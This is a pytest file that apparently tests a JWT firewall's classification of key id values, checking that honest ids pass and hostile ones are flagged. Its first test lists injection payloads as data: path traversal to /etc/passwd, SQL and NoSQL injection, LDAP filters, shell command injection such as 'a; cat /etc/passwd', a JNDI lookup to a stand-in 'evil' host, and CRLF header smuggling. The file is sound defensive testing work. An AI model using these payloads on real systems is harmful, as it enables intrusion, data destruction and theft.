"""Family C: what a key id does to the code that looks the key up."""

from __future__ import annotations

from typing import Any

import pytest

from tests.firewall.ring import Ring, with_keys
from tests.firewall.tokens import attacks, findings, ids, token


@pytest.mark.parametrize(
    ("kid", "trick"),
    [
        ("../../../../dev/null", "kid_traversal"), ("..\\..\\key", "kid_traversal"),
        ("keys/../../etc", "kid_traversal"),
        ("%2e%2e%2fetc%2fpasswd", "kid_traversal"), ("%252e%252e/x", "kid_traversal"), ("..", "kid_traversal"),
        ("/dev/null", "kid_file"), ("/etc/passwd", "kid_file"), ("/proc/sys/kernel/randomize_va_space", "kid_file"),
        ("file:///dev/null", "kid_file"), ("C:\\keys\\a", "kid_file"), ("\\\\host\\share", "kid_file"),
        ("x' UNION SELECT 'secret';--", "kid_sql"), ("' or 1=1 --", "kid_sql"), ('" OR "a"="a', "kid_sql"),
        ("a'; DROP TABLE keys", "kid_sql"), ("1 union all select 'k'", "kid_sql"), ("a')--", "kid_sql"),
        ("'||(select 1)||'", "kid_sql"), ("x' AND sleep(5)#", "kid_sql"), ("a/**/b", "kid_sql"),
        ("$ne", "kid_nosql"), ('{"$gt":""}', "kid_nosql"), ("a[$ne]=1", "kid_nosql"), ("';return $where", "kid_nosql"),
        ({"$ne": None}, "kid_nosql"), ("*)(uid=*", "kid_ldap"), ("a)(|(cn=*", "kid_ldap"), ("*)(&", "kid_ldap"),
        ("key|sleep 10", "kid_command"), ("`id`", "kid_command"), ("$(id)", "kid_command"), ("a && id", "kid_command"),
        ("a; cat /etc/passwd", "kid_command"), ("a\nid", "kid_command"), ("{{7*7}}", "kid_template"),
        ("${jndi:ldap://evil/a}", "kid_template"), ("<%= 7 %>", "kid_template"), ("#{7*7}", "kid_template"),
        (0, "kid_type"), (1.5, "kid_type"), ([], "kid_type"), ({}, "kid_type"), (True, "kid_type"),
        ("a\r\nX-Admin: 1", "kid_control"), ("a\x1b[31m", "kid_control"), ("a\0b", "kid_control"),
        ("a%00", "kid_control"),
        ("a\u2028b", "kid_control"), ("k" * 1_025, "kid_oversize"),
    ],
)  # fmt: skip
def test_a_key_id_that_does_something_is_an_attack(kid: Any, trick: str) -> None:
    assert trick in attacks(token({"kid": kid}))


@pytest.mark.parametrize(
    "kid",
    [
        "1", "2026-01", "NjVBRjY5MDlCMUIwNzU4RTA2QzZFMDQ4QzQ2MDAyQjVDNjk1RTM2Qg", "a--b_c==", "+/AbC9+/x/y+z==",
        "/AbC9+/x=", "did:example:123#key-1", "did:web:example.com:users;service=x#k", "did:key:z6Mk#z6Mk",
        "https://vault.azure.net/keys/signing/0a1b", "https://idp.example.com/keys/1", "urn:uuid:0a1b-2c3d", "a..b",
        "bilbo.baggins@hobbiton.example", "Key 1 (old)", "schl\u00fcssel", "sim1:abc/def", "-", "~", "k" * 1_024, "",
        "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab", "projects/p/locations/l/keyRings/r/cryptoKeys/k/1",
    ],
)  # fmt: skip
def test_an_honest_key_id_is_nothing(kid: str) -> None:
    assert ids(token({"kid": kid})) == []


def test_no_key_id_is_nothing_and_null_is_policy() -> None:
    assert ids(token()) == []
    (finding,) = findings(token({"kid": None}))
    assert (finding.id, finding.is_attack, finding.detail) == ("kid_type", False, "null")


@pytest.mark.parametrize("kid", ["http://127.0.0.1:8080/keys", "https://keys.internal/1", "a?b=c", "a%41", "x#/../y"])
def test_a_key_id_that_bends_an_address_is_policy(kid: str) -> None:
    assert "kid_url" in ids(token({"kid": kid}))


def test_an_unknown_key_id_is_policy_and_counted() -> None:
    assert with_keys(token({"kid": "a"}), Ring()) == set()
    assert with_keys(token({"kid": "b"}), Ring()) == {"kid_unknown"}
    assert with_keys(token(), Ring()) == set()
